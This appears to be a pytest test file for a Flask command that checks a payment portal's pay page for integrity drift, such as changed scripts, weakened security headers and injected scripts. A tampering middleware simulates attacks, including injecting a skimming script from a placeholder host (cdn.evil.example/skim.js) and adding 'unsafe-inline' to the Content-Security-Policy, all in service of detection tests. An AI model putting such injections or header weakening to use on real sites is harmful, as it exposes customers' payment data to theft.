"""`flask integrity baseline|check <url>` against a live portal (served on a loopback port, the
Stripe sandbox behind it): no drift exits 0; a changed script, a weakened header or an extra
script exits 1 and names it; a check that cannot run exits 2."""

from __future__ import annotations

import json
import re

import pytest

from tests.support.capture import audit_actions, create_direct, path_of
from tests.support.payments import live_portal, sandbox_settings

PAY_JS = "/static/js/customer/pay.js"


class Tamper:
    """WSGI middleware that changes what the portal sends, as an attacker (or a bad proxy,
    or a careless release) might: one ``mode`` at a time."""

    def __init__(self, app) -> None:
        self.app, self.mode = app, None

    def __call__(self, environ, start_response):
        path = environ.get("PATH_INFO", "")
        if self.mode is None:
            return self.app(environ, start_response)
        captured = {}

        def keep(status, headers, exc_info=None):
            captured["status"], captured["headers"] = status, headers
            return lambda data: None

        body = b"".join(self.app(environ, keep))
        headers = captured["headers"]
        if self.mode == "script" and path == PAY_JS:
            body += b"\n/* one more line */\n"
        if path.endswith("/pay"):
            if self.mode == "weaken":
                headers = [
                    (name, value.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"))
                    for name, value in headers
                    if name != "Referrer-Policy"
                ]
            if self.mode == "inject":
                body = body.replace(
                    b"</body>", b'<script src="https://cdn.evil.example/skim.js"></script></body>'
                )
        headers = [(n, v) for n, v in headers if n.lower() != "content-length"]
        headers.append(("Content-Length", str(len(body))))
        start_response(captured["status"], headers)
        return [body]


@pytest.fixture
def portal(app_factory, stripe_sandbox, make_staff):
    app = app_factory(**sandbox_settings(stripe_sandbox))
    tamper = Tamper(app.wsgi_app)
    app.wsgi_app = tamper
    with live_portal(app) as base_url:
        yield app, base_url, tamper, make_staff("agent", username="monitor")


def new_link(app, agent_id, base_url, **spec) -> str:
    _, url = create_direct(app, agent_id, **spec)
    return base_url + path_of(url)


def run(app, *args):
    return app.test_cli_runner().invoke(args=["integrity", *args], catch_exceptions=False)


def baseline(app, base_url, agent, path):
    link = new_link(app, agent.id, base_url)
    result = run(app, "baseline", link, "--answer", "SW1A 1AA", "--output", str(path))
    assert result.exit_code == 0, result.output
    return json.loads(path.read_text())


def check(app, base_url, agent, path):
    link = new_link(app, agent.id, base_url)
    return run(app, "check", link, "--answer", "SW1A 1AA", "--baseline", str(path))


def test_no_drift_exits_zero(portal, tmp_path):
    app, base_url, _, agent = portal
    path = tmp_path / "baseline.json"
    recorded = baseline(app, base_url, agent, path)
    assert recorded["page"] == "/c/<token>/pay"
    srcs = [script["src"] for script in recorded["scripts"]]
    assert srcs == [app.config["STRIPE_JS_URL"], PAY_JS]
    assert recorded["scripts"][1]["integrity"] == recorded["scripts"][1]["served_sha384"]
    assert "report-uri /csp-report" in recorded["headers"]["Content-Security-Policy"]

    result = check(app, base_url, agent, path)
    assert result.exit_code == 0, result.output
    assert "no drift on /c/<token>/pay" in result.output
    link = new_link(app, agent.id, base_url)
    quiet = run(app, "check", link, "--answer", "SW1A 1AA", "--baseline", str(path), "--quiet")
    assert quiet.exit_code == 0 and quiet.output == ""
    assert "integrity.checked" in audit_actions(app)


def test_a_changed_script_is_drift(portal, tmp_path):
    app, base_url, tamper, agent = portal
    path = tmp_path / "baseline.json"
    baseline(app, base_url, agent, path)
    tamper.mode = "script"
    result = check(app, base_url, agent, path)
    assert result.exit_code == 1, result.output
    assert f"script {PAY_JS} changed since the baseline" in result.output
    assert "does not match its integrity attribute" in result.output


def test_a_weakened_header_is_drift(portal, tmp_path):
    app, base_url, tamper, agent = portal
    path = tmp_path / "baseline.json"
    baseline(app, base_url, agent, path)
    tamper.mode = "weaken"
    result = check(app, base_url, agent, path)
    assert result.exit_code == 1, result.output
    assert "CSP script-src gained 'unsafe-inline'" in result.output
    assert "CSP script-src allows 'unsafe-inline'" in result.output
    assert "header Referrer-Policy changed: 'same-origin' -> None" in result.output


def test_an_injected_script_is_drift(portal, tmp_path):
    app, base_url, tamper, agent = portal
    path = tmp_path / "baseline.json"
    baseline(app, base_url, agent, path)
    tamper.mode = "inject"
    result = check(app, base_url, agent, path)
    assert result.exit_code == 1, result.output
    assert "script not in the inventory: https://cdn.evil.example/skim.js" in result.output


def test_no_baseline_is_recorded_from_a_page_that_already_breaks_the_rules(portal, tmp_path):
    app, base_url, tamper, agent = portal
    tamper.mode = "inject"
    link = new_link(app, agent.id, base_url)
    path = tmp_path / "baseline.json"
    result = run(app, "baseline", link, "--answer", "SW1A 1AA", "--output", str(path))
    assert result.exit_code == 1 and "skim.js" in result.output
    assert not path.exists()


def test_a_probe_link_needs_no_one_and_is_revoked_afterwards(portal, tmp_path):
    """For cron: the command makes its own link as a named agent, walks it, revokes it."""
    app, base_url, _, _ = portal
    path = tmp_path / "baseline.json"
    result = run(app, "baseline", base_url, "--probe-as", "monitor", "--output", str(path))
    assert result.exit_code == 0, result.output
    result = run(app, "check", base_url, "--probe-as", "monitor", "--baseline", str(path))
    assert result.exit_code == 0, result.output
    from portal.extensions import db
    from portal.models.capture import CaptureRequest
    from portal.models.payment import Payment

    with app.app_context():
        probes = db.session.query(CaptureRequest).filter_by(reference="INTEGRITY-CHECK").all()
        assert [p.status for p in probes] == ["revoked", "revoked"]
        payments = db.session.query(Payment).all()
        assert {p.status for p in payments} == {"canceled"}


def test_a_check_that_cannot_run_exits_two(portal, tmp_path):
    app, base_url, _, agent = portal
    link = new_link(app, agent.id, base_url)
    missing = tmp_path / "none.json"
    result = run(app, "check", link, "--answer", "SW1A 1AA", "--baseline", str(missing))
    assert result.exit_code == 2 and "no usable baseline" in result.output
    path = tmp_path / "baseline.json"
    baseline(app, base_url, agent, path)
    # The identity question, unanswered; then a link already bound to another browser.
    result = run(app, "check", new_link(app, agent.id, base_url), "--baseline", str(path))
    assert result.exit_code == 2 and "give --answer" in result.output
    result = run(app, "check", link, "--answer", "SW1A 1AA", "--baseline", str(path))
    assert result.exit_code == 0, result.output
    result = run(app, "check", link, "--answer", "SW1A 1AA", "--baseline", str(path))
    assert result.exit_code == 2 and "409" in result.output
    assert re.search(r"cannot check", result.output)
